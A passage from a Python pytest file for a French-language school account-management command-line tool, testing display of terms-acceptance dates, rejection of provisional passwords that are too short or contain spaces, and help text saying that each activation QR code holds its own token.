    code, out, _ = run(["accounts", "show", "lea.martin", "--json"], capsys)
    assert code == 0 and json.loads(out)["cgu_accepted_at"] is not None
    code, out, _ = run(["accounts", "show", "lea.martin"], capsys)
    line = next(line for line in out.splitlines() if "CGU acceptées le" in line)
    assert "—" not in line and "2026" in line


def test_import_refuses_the_provisional_passwords_reset_refuses(
    env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [
        ACCOUNTS[0],
        ("x.court", "a", "eleve", "A", "B", "C"),  # line 3: 1 character
        ("x.espace", "Pw 123456", "eleve", "A", "B", "C"),  # line 4: a space
    ]
    path = write_accounts_csv(env / "comptes.csv", rows)
    code, out, _ = run(["accounts", "import", str(path)], capsys)
    assert code == 1
    assert "ligne 3 : mot_de_passe_provisoire refusé : 8 à 128 caractères" in out
    assert "ligne 4 : mot_de_passe_provisoire refusé" in out
    assert "ajoutés :    1" in out
    code, _, err = run(["accounts", "reset", "lea.martin", "--mot-de-passe", "a"], capsys)
    assert code != 0 and "8 à 128 caractères" in err


def test_letters_help_tells_each_qr_code_holds_its_own_token(
    env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit):
        main(["accounts", "letters", "--help"])
    out = " ".join(capsys.readouterr().out.split())
    assert "start=c_" in out and "start=activer, sans aucun secret" not in out
